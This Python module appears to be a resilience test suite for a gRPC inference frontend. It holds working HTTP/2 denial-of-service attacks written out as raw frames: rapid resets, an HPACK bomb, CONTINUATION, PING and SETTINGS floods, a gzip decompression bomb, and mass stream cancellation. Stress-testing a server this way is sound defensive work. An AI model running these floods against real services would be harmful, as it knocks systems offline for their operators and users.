"""Attacks over gRPC: floods of frames, bombs of headers and of bytes, and calls cancelled at any moment."""

from __future__ import annotations

import gzip
import random
import select
import socket
import struct
import threading
import time
from collections.abc import Callable, Sequence

from support.frontend.raw_http2 import (
    CONTINUATION,
    DATA,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    call,
    frame,
    literal,
)  # fmt: skip
from tritonclient.grpc import service_pb2

from attacks.attack import ABREAST, HUNG, Attack, Place, Tally, connect, each, rest, rounds, send

_WINDOW_UPDATE = 8
_END_STREAM, _END_HEADERS, _COMPRESSED = 1, 4, 1
_UNARY = b"/inference.GRPCInferenceService/ModelInfer"
_STREAM = b"/inference.GRPCInferenceService/ModelStreamInfer"
_CANCEL = struct.pack(">I", 8)
#: Below the frontend's resets_per_s (1000), so that a connection lasts.
_RESETS_PER_S = 900
_CALLS_AT_A_TIME = 30
_CALLS_OF_A_CONNECTION = 3000
#: Windows that do not run out before the connection does.
_OPEN_WIDE = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) + frame(
    _WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)
)


def message(model: str, elements: int = 2) -> bytes:
    """Return a ModelInferRequest with its prefix."""
    request = service_pb2.ModelInferRequest(model_name=model)
    request.inputs.add(name="x", datatype="FP32", shape=[1, elements])
    request.raw_input_contents.append(struct.pack(f"<{elements}f", *range(1, elements + 1)))
    return prefixed(request.SerializeToString())


def prefixed(data: bytes, flag: int = 0) -> bytes:
    """Return a message as gRPC sends it on the wire."""
    return struct.pack(">BI", flag, len(data)) + data


# ── floods ───────────────────────────────────────────────────────────────────────────────────────────


def _flood(make: Callable[[], bytes]) -> Callable[[Place, int, Tally], None]:
    """Return an attack that sends the same bytes on each connection, and waits for the connection's end."""

    def run(place: Place, count: int, tally: Tally) -> None:
        data = PREFACE + frame(SETTINGS, 0, 0) + make()

        def one(place: Place, number: int) -> str:
            with connect(place.grpc) as client:
                send(client, data)
                try:
                    client.shutdown(socket.SHUT_WR)
                except OSError:
                    return "reset"
                return _ended(rest(client))

        each(place, count, tally, one)

    return run


def _ended(said: bytes) -> str:
    """Return how the server ended a connection: the HTTP/2 error code."""
    at = 0
    found = "closed"
    while at + 9 <= len(said):
        size = int.from_bytes(said[at : at + 3], "big")
        if said[at + 3] == GOAWAY and at + 17 <= len(said):
            found = f"goaway {int.from_bytes(said[at + 13 : at + 17], 'big')}"
        at += 9 + size
    return found


def _rapid_resets() -> bytes:
    return b"".join(
        call(2 * i + 1, _UNARY) + frame(RESET, 0, 2 * i + 1, _CANCEL) for i in range(1500)
    )


def _hpack_bomb() -> bytes:
    """Store a header of 3,900 bytes, and refer to it 60,000 times, with one byte each."""
    large = b"\x40\x01x\x7f" + bytes([(3900 - 127) % 128 | 128, (3900 - 127) // 128]) + b"a" * 3900
    parts = [frame(HEADERS, 0, 1, large)]
    parts += [frame(CONTINUATION, 0, 1, b"\xbe" * 15_000) for _ in range(3)]
    return b"".join([*parts, frame(CONTINUATION, _END_HEADERS, 1, b"\xbe" * 15_000)])


def _continuations() -> bytes:
    tiny = frame(CONTINUATION, 0, 1, literal(b"x", b"y"))
    return frame(HEADERS, 0, 1, literal(b"x", b"y")) + tiny * 10_000


def _pings() -> bytes:
    return frame(PING, 0, 0, b"12345678") * 20_000


def _settings() -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 20_000


def _empty_data() -> bytes:
    return call(1, _STREAM) + frame(DATA, 0, 1) * 50_000


def _bytes_bomb() -> bytes:
    """Several calls with messages of 16 MiB of zeros, compressed."""
    packed = prefixed(gzip.compress(bytes(16 << 20)), _COMPRESSED)
    encoding = literal(b"grpc-encoding", b"gzip")
    calls = []
    for stream in (1, 3):
        head = call(stream, _UNARY)
        block = head[9:] + encoding
        calls.append(frame(HEADERS, _END_HEADERS, stream, block))
        pieces = (packed[start : start + 16_000] for start in range(0, len(packed), 16_000))
        calls += [frame(DATA, 0, stream, piece) for piece in pieces]
        calls.append(frame(DATA, _END_STREAM, stream))
    return b"".join(calls)


def _unread(place: Place, count: int, tally: Tally) -> None:
    """Calls whose responses have no window: the server has to reset them."""
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    body = message(place.model)
    for some in rounds(count, 2000):
        clients = []
        for _ in range(some):
            client = connect(place.grpc)
            send(client, PREFACE + no_window)
            for stream in (1, 3):
                send(client, call(stream, _UNARY) + frame(DATA, _END_STREAM, stream, body))
            clients.append(client)
        for client in clients:
            tally.add(_until_reset(client, 2))
            client.close()


def _until_reset(client: socket.socket, count: int) -> str:
    said = client.makefile("rb")
    try:
        while head := said.read(9):
            said.read(int.from_bytes(head[:3], "big"))
            count -= head[3] == RESET
            if count == 0:
                return "reset streams"
    except socket.timeout:
        return HUNG
    except ConnectionError:
        pass
    return "closed"


# ── calls that are cancelled ─────────────────────────────────────────────────────────────────────────


class _Canceller:
    """One connection after the other, each with calls that are cancelled at random moments."""

    def __init__(self, place: Place, path: bytes, bodies: Sequence[bytes], seed: int) -> None:
        self._place = place
        self._path = path
        self._bodies = bodies
        self._chance = random.Random(seed)
        self._stream = 1
        self.reached = 0  #: calls of which an answer came before their end

    def run(self, count: int, tally: Tally) -> None:
        """Cancel `count` calls."""
        while count > 0:
            some = min(count, _CALLS_OF_A_CONNECTION)
            count -= self._connection(some, tally)

    def _connection(self, count: int, tally: Tally) -> int:
        self._stream = 1
        done = 0
        begun = time.monotonic()
        with connect(self._place.grpc) as client:
            try:
                client.sendall(PREFACE + _OPEN_WIDE)
                while done < count:
                    done += self._some(client, min(_CALLS_AT_A_TIME, count - done), tally)
                    early = begun + done / _RESETS_PER_S - time.monotonic()
                    if early > 0:
                        time.sleep(early)
            except ConnectionError:
                tally.add("connection lost")
        return done

    def _some(self, client: socket.socket, count: int, tally: Tally) -> int:
        """Start some calls, and end them: at once, a moment later, after half a message, or with their connection."""
        streams = range(self._stream, self._stream + 2 * count, 2)
        self._stream += 2 * count
        moment = self._chance.randrange(6)
        begun, ended = [], []
        for stream in streams:
            body = self._chance.choice(self._bodies)
            whole = self._chance.random() < 0.8
            if not whole:
                body = body[: self._chance.randrange(len(body))]
            flags = _END_STREAM if whole and self._chance.random() < 0.7 else 0
            begun.append(call(stream, self._path) + frame(DATA, flags, stream, body))
            ended.append(frame(RESET, 0, stream, _CANCEL))
            if moment == 0:
                begun.append(ended[-1])
        client.sendall(b"".join(begun))
        if moment in (1, 2, 3):
            time.sleep(self._chance.random() * 0.001 * moment * moment)
        elif moment == 4:
            select.select([client], [], [], 0.01)
        _drain(client)
        if moment:
            client.sendall(b"".join(ended))
        for _ in streams:
            tally.add("cancelled")
        if moment == 5 and self._chance.random() < 0.1:
            raise ConnectionAbortedError  # the whole connection goes
        return count


def _drain(client: socket.socket) -> None:
    while select.select([client], [], [], 0)[0]:
        if not client.recv(1 << 18):
            raise ConnectionResetError


def _cancels(
    path: bytes, messages: Callable[[Place], Sequence[bytes]]
) -> Callable[[Place, int, Tally], None]:
    def run(place: Place, count: int, tally: Tally) -> None:
        lock = threading.Lock()
        share = -(-count // ABREAST)

        def one(number: int) -> None:
            mine = Tally()
            part = min(share, count - number * share)
            if part > 0:
                _Canceller(place, path, messages(place), number).run(part, mine)
            with lock:
                tally.seen.update(mine.seen)

        threads = [threading.Thread(target=one, args=(i,)) for i in range(ABREAST)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    return run


def _unary_messages(place: Place) -> list[bytes]:
    return [message(place.model), message(place.model, 500), message("no such model")]


def _stream_messages(place: Place) -> list[bytes]:
    one = message(place.stream)
    return [one, one * 3, message(place.model), one + message("no such model")]


ATTACKS = {
    "rapid-resets": Attack(_flood(_rapid_resets), frozenset({"goaway 11", "reset"})),
    "hpack-bombs": Attack(_flood(_hpack_bomb), frozenset({"closed", "reset"})),
    "continuations": Attack(_flood(_continuations)),
    "pings": Attack(_flood(_pings)),
    "settings": Attack(_flood(_settings)),
    "empty-data": Attack(_flood(_empty_data)),
    "grpc-bombs": Attack(_flood(_bytes_bomb)),
    "unread-answers": Attack(_unread, frozenset({"reset streams", "closed"})),
    "cancelled-streams": Attack(_cancels(_STREAM, _stream_messages), counts="streams"),
    "cancelled-calls": Attack(_cancels(_UNARY, _unary_messages), counts="calls"),
}  # fmt: skip
